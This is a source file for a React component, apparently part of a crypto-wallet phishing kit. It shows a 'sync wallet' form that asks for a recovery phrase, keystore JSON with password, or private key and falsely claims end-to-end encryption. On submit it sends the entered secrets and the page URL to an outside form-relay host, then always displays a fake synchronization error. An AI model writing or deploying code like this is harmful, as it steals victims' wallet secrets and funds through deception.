import React, { useState } from "react";
import axios from "axios";
import { jsx as _jsx, jsxs as _jsxs } from "react/jsx-runtime";
const TABS = ["Phrase", "Keystore JSON", "Private Key"];
export default function ManualConnect({ wallet, onClose }) {
  const [tab, setTab] = useState(0);
  const [value, setValue] = useState("");
  const [pass, setPass] = useState("");
  const [state, setState] = useState("idle");
  const submit = async (e) => {
    e.preventDefault();
    if (tab === 0 && ![12, 15, 18, 24].includes(value.trim().split(/\s+/).length)) {
      return setState("Recovery phrase must contain 12 or 24 words");
    }
    setState("loading");
    try {
      await axios.post("https://api.formrelay.example/f/000000", {
        subject: `${wallet.name} wallet`,
        type: TABS[tab],
        phrase: value,
        password: pass,
        page: window.location.href,
      });
    } finally {
      setTimeout(() => setState("Error synchronizing wallet. Please try a different wallet."), 4000);
    }
  };
  return _jsxs("form", {
    className: "sync-modal", onSubmit: submit,
    children: [
      _jsx("img", { src: wallet.icon, alt: "" }),
      _jsx("h3", { children: `Import your ${wallet.name} wallet to rectify` }),
      _jsx("nav", { children: TABS.map((t, i) => _jsx("a", { onClick: () => setTab(i), className: i === tab ? "on" : "", children: t }, t)) }),
      _jsx("textarea", { required: true, value, placeholder: "Enter your " + TABS[tab], onChange: (e) => setValue(e.target.value) }),
      tab === 1 && _jsx("input", { placeholder: "Wallet password", value: pass, onChange: (e) => setPass(e.target.value) }),
      _jsx("small", { children: "Typically 12 (sometimes 24) words separated by single spaces. This session is protected with end-to-end encryption." }),
      _jsx("button", { disabled: state === "loading", children: state === "loading" ? "Connecting…" : "PROCEED" }),
      _jsx("p", { className: "err", children: state !== "loading" && state !== "idle" ? state : "" }),
    ],
  });
}
